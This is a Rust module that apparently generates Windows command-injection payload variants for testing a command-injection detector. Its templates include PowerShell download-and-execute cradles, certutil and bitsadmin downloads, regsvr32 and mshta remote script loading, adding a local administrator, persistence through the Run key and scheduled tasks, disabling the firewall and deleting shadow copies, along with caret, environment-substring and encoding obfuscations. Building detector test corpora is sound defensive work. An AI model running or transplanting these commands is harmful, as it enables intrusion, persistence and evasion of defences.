//! `shell-windows`: Windows command injection (cmd.exe and PowerShell). A variant is data that
//! breaks into a command position (`&`, `&&`, `|`, `||`, newline, `;` for PowerShell) × a command
//! built from parts (recon, file reads, `cmd /c`, PowerShell download cradles and encoded
//! commands, LOLBins such as certutil, bitsadmin, regsvr32, mshta, rundll32, wmic, `for /f`,
//! `if exist`) × obfuscations (carets, quotes inside words, random case, `%COMSPEC%`,
//! `%VAR:~a,b%` substrings, full paths, PowerShell backticks), then an optional transport
//! encoding.

use crate::mutate;
use crate::{Carrier, Family, Rng, Variant};

pub struct ShellWindows;

/// Default values of variables whose letters attackers slice out with `%VAR:~a,b%`.
const ENV: &[(&str, &str)] = &[
    ("ProgramData", "C:\\ProgramData"),
    ("COMSPEC", "C:\\Windows\\system32\\cmd.exe"),
    ("windir", "C:\\Windows"),
    ("PUBLIC", "C:\\Users\\Public"),
    ("ProgramFiles", "C:\\Program Files"),
    ("PATHEXT", ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC"),
];

fn word(rng: &mut Rng, lo: usize, hi: usize) -> String {
    (0..rng.range(lo, hi)).map(|_| (b'a' + rng.below(26) as u8) as char).collect()
}

fn host(rng: &mut Rng) -> String {
    if rng.chance(0.5) {
        format!("{}.{}.{}.{}", rng.range(1, 223), rng.below(256), rng.below(256), rng.range(1, 254))
    } else {
        format!("{}.{}", word(rng, 4, 10), one(rng, &["com", "net", "io", "xyz"]))
    }
}

fn url(rng: &mut Rng, ext: &str) -> String {
    format!("http{}://{}/{}.{ext}", if rng.chance(0.5) { "s" } else { "" }, host(rng), word(rng, 1, 8))
}

fn drop_path(rng: &mut Rng, ext: &str) -> String {
    format!(
        "{}\\{}.{ext}",
        one(rng, &["C:\\Users\\Public", "C:\\Windows\\Temp", "%TEMP%", "C:\\ProgramData", "%APPDATA%"]),
        word(rng, 1, 8)
    )
}

/// UTF-16LE base64 of a PowerShell command, as `-EncodedCommand` takes it.
fn ps_b64(text: &str) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b: Vec<u8> = text.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n = chunk.iter().enumerate().fold(0u32, |acc, (k, &x)| acc | (x as u32) << (16 - 8 * k));
        for k in 0..4 {
            out.push(if k <= chunk.len() { T[(n >> (18 - 6 * k) & 63) as usize] as char } else { '=' });
        }
    }
    out
}

/// A recon or file command (what `cmd /c` and the separators run).
fn simple(rng: &mut Rng) -> String {
    let user = word(rng, 4, 8);
    match rng.below(14) {
        0 => one(
            rng,
            &[
                "whoami",
                "whoami /all",
                "whoami /priv",
                "ipconfig /all",
                "systeminfo",
                "tasklist /v",
                "ver",
                "hostname",
                "net view",
                "getmac",
            ],
        )
        .to_string(),
        1 => format!(
            "dir {}",
            one(
                rng,
                &["C:\\", "C:\\Users", "C:\\inetpub\\wwwroot", "c:\\windows\\system32\\config", "%USERPROFILE%\\Desktop", "/a /s C:\\"]
            )
        ),
        2 => format!(
            "type {}",
            one(
                rng,
                &[
                    "C:\\Windows\\win.ini",
                    "C:\\boot.ini",
                    "%SYSTEMROOT%\\win.ini",
                    "C:\\inetpub\\wwwroot\\web.config",
                    "C:\\Windows\\System32\\drivers\\etc\\hosts"
                ]
            )
        ),
        3 => format!("net user {user} {}{} /add", word(rng, 4, 8), rng.below(1000)),
        4 => format!("net localgroup administrators {user} /add"),
        5 => format!("ping -n {} {}", rng.range(1, 30), host(rng)),
        6 => format!("timeout /t {}", rng.range(1, 30)),
        7 => format!(
            "reg query {}",
            one(
                rng,
                &[
                    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
                    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                    "HKLM\\SYSTEM\\CurrentControlSet\\Services"
                ]
            )
        ),
        8 => format!("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {user} /d {} /f", drop_path(rng, "exe")),
        9 => format!("schtasks /create /tn {user} /tr {} /sc {}", drop_path(rng, "exe"), one(rng, &["onlogon", "minute", "daily"])),
        10 => one(
            rng,
            &[
                "netsh advfirewall set allprofiles state off",
                "netsh firewall set opmode disable",
                "vssadmin delete shadows /all /quiet",
                "sc query",
                "tasklist /svc",
                "wmic os get caption",
                "wmic process list brief",
            ],
        )
        .to_string(),
        11 => format!("taskkill /f /im {}.exe", word(rng, 3, 8)),
        12 => format!("sc create {user} binPath= {}", drop_path(rng, "exe")),
        _ => format!("tasklist /fi \"imagename eq {}.exe\"", word(rng, 3, 8)),
    }
}

/// A PowerShell command line (what `powershell -c` runs, or typed after `;`).
fn powershell_code(rng: &mut Rng) -> String {
    let u = url(rng, "ps1");
    match rng.below(7) {
        0 => format!("IEX (New-Object Net.WebClient).DownloadString('{u}')"),
        1 => format!("IEX(New-Object System.Net.WebClient).DownloadString(\"{u}\")"),
        2 => format!("iex (iwr {u} -UseBasicParsing)"),
        3 => format!("iwr {} -OutFile {}", url(rng, "exe"), drop_path(rng, "exe")),
        4 => format!("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList {}", drop_path(rng, "exe")),
        5 => format!("Start-Process {} -WindowStyle Hidden", drop_path(rng, "exe")),
        _ => format!("(New-Object Net.WebClient).DownloadFile('{}','{}')", url(rng, "exe"), drop_path(rng, "exe")),
    }
}

fn command(rng: &mut Rng) -> String {
    match rng.below(12) {
        0..=2 => simple(rng),
        3 | 4 => format!(
            "{} {} {}",
            one(rng, &["cmd", "cmd.exe", "CMD", "C:\\Windows\\System32\\cmd.exe"]),
            one(rng, &["/c", "/k", "/C", "/q /c", "/r"]),
            simple(rng)
        ),
        5 => {
            let flags = one(
                rng,
                &[
                    "-nop -w hidden -enc",
                    "-NoP -NonI -W Hidden -Enc",
                    "-e",
                    "-ec",
                    "-EncodedCommand",
                    "-nop -exec bypass -enc",
                    "-ep bypass -e",
                ],
            );
            let code = powershell_code(rng);
            format!("{} {flags} {}", one(rng, &["powershell", "powershell.exe", "pwsh"]), ps_b64(&code))
        }
        6 => {
            let flags = one(
                rng,
                &["-c", "-command", "-nop -w hidden -c", "-NoProfile -ExecutionPolicy Bypass -Command", "-exec bypass -c", "-noni -nop -c"],
            );
            format!("{} {flags} \"{}\"", one(rng, &["powershell", "powershell.exe", "pwsh"]), powershell_code(rng))
        }
        7 => powershell_code(rng),
        8 => match rng.below(4) {
            0 => format!("certutil -urlcache -split -f {} {}", url(rng, "exe"), drop_path(rng, "exe")),
            1 => format!("certutil.exe -urlcache -f {} {}", url(rng, "txt"), drop_path(rng, "txt")),
            2 => format!("certutil -decode {} {}", drop_path(rng, "b64"), drop_path(rng, "exe")),
            _ => format!("bitsadmin /transfer {} /download /priority high {} {}", word(rng, 3, 8), url(rng, "exe"), drop_path(rng, "exe")),
        },
        9 => match rng.below(5) {
            0 => format!("regsvr32 /s /n /u /i:{} scrobj.dll", url(rng, "sct")),
            1 => format!("mshta {}", url(rng, "hta")),
            2 => format!("mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"{}\"\"\")", word(rng, 3, 8)),
            3 => format!("rundll32 {},{}", drop_path(rng, "dll"), one(rng, &["DllMain", "EntryPoint", "Run", "Start"])),
            _ => format!(
                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:{}\")",
                url(rng, "sct")
            ),
        },
        10 => match rng.below(3) {
            0 => format!("wmic process call create \"{}\"", drop_path(rng, "exe")),
            1 => format!("wmic /node:{} process call create \"cmd /c {}\"", host(rng), simple(rng)),
            _ => format!("cscript //E:jscript {}", drop_path(rng, "txt")),
        },
        _ => match rng.below(2) {
            0 => format!(
                "for /f \"tokens=*\" %i in ('{}') do {} %i",
                one(rng, &["whoami", "hostname", "ver", "type C:\\Windows\\win.ini"]),
                one(rng, &["echo", "nslookup", "ping -n 1"])
            ),
            _ => format!("if exist C:\\Windows\\win.ini {}", simple(rng)),
        },
    }
}

/// Letters of the first word of `line` with `ins` inserted between some of them.
fn sprinkle_first(rng: &mut Rng, line: &str, ins: &str) -> String {
    let end = line.find([' ', '(']).unwrap_or(line.len());
    let (w, rest) = line.split_at(end);
    let mut out = String::new();
    let mut inserted = false;
    for (k, ch) in w.chars().enumerate() {
        if k > 0 && ch.is_ascii_alphabetic() && (rng.chance(0.5) || !inserted && k == 1) {
            out.push_str(ins);
            inserted = true;
        }
        out.push(ch);
    }
    out + rest
}

/// Replaces some letters of the first word by `%VAR:~i,1%` slices that yield them.
fn env_substring(rng: &mut Rng, line: &str) -> String {
    let end = line.find([' ', '(']).unwrap_or(line.len());
    let (w, rest) = line.split_at(end);
    let mut out = String::new();
    let mut changed = false;
    for ch in w.chars() {
        let lower = ch.to_ascii_lowercase();
        let slot = ENV.iter().find_map(|(n, v)| v.to_ascii_lowercase().find(lower).map(|i| (n, i)));
        match slot {
            Some((n, i)) if ch.is_ascii_alphabetic() && (rng.chance(0.5) || !changed) => {
                out.push_str(&format!("%{n}:~{i},1%"));
                changed = true;
            }
            _ => out.push(ch),
        }
    }
    out + rest
}

impl Family for ShellWindows {
    fn name(&self) -> &'static str {
        "shell-windows"
    }

    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut line = command(rng);
        let mut names: Vec<&'static str> = Vec::new();
        let is_ps = line.starts_with("IEX")
            || line.starts_with("iex")
            || line.starts_with("iwr")
            || line.starts_with("Invoke")
            || line.starts_with("Start-")
            || line.starts_with("(New");
        if rng.chance(0.6) {
            match rng.below(6) {
                0 if !is_ps => {
                    line = sprinkle_first(rng, &line, "^");
                    names.push("caret");
                }
                1 if !is_ps => {
                    line = sprinkle_first(rng, &line, "\"\"");
                    names.push("quotes");
                }
                2 => {
                    line = mutate::random_case(rng, &line);
                    names.push("case");
                }
                3 if !is_ps && !line.starts_with("C:") => {
                    line = env_substring(rng, &line);
                    names.push("env-substring");
                }
                4 if line.starts_with("cmd ") || line.starts_with("cmd.exe ") || line.starts_with("CMD ") => {
                    let rest = line.split_once(' ').map_or("", |(_, r)| r).to_string();
                    line = format!(
                        "{} {rest}",
                        one(rng, &["%COMSPEC%", "%comspec%", "%SystemRoot%\\System32\\cmd.exe", "%windir%\\system32\\cmd.exe"])
                    );
                    names.push("comspec");
                }
                _ if is_ps => {
                    line = sprinkle_first(rng, &line, "`");
                    names.push("ps-backtick");
                }
                _ if !line.starts_with("C:") && !line.starts_with('%') => {
                    // `set a=who&&set b=ami&&call %a%%b%`: the command word from variables.
                    let (first, rest) = line.split_once(' ').unwrap_or((line.as_str(), ""));
                    if first.len() >= 2 {
                        let k = 1 + rng.below(first.len() - 1);
                        let (x, y) = (one(rng, &["a", "x", "v", "_c"]), one(rng, &["b", "y", "w", "_d"]));
                        let call = if rng.chance(0.5) { "call " } else { "" };
                        line = format!("set {x}={}&&set {y}={}&&{call}%{x}%%{y}% {rest}", &first[..k], &first[k..]).trim_end().to_string();
                        names.push("set-call");
                    }
                }
                _ => {}
            }
        }
        let prefix = match rng.below(5) {
            0 => String::new(),
            1 => rng.range(1, 9999).to_string(),
            2 => "127.0.0.1".to_string(),
            3 => format!("{}.txt\"", word(rng, 3, 8)),
            _ => word(rng, 3, 8),
        };
        let sep =
            if is_ps { one(rng, &[";", "|", "&", "\n", "; "]) } else { one(rng, &["&", "&&", "|", "||", "\n", " & ", " && ", " | "]) };
        let suffix = one(rng, &["", "", "&", " &", "\"", "|", " REM"]);
        let payload = if rng.chance(0.15) { line } else { format!("{prefix}{sep}{line}{suffix}") };
        let (payload, transport) = mutate::transport_layer(rng, &payload);
        names.push(transport);
        Variant { family: self.name(), mutation: mutate::join(&names), payload, carrier: Carrier::Value }
    }
}

/// One of `items`, uniformly.
fn one(rng: &mut Rng, items: &[&'static str]) -> &'static str {
    items[rng.below(items.len())]
}
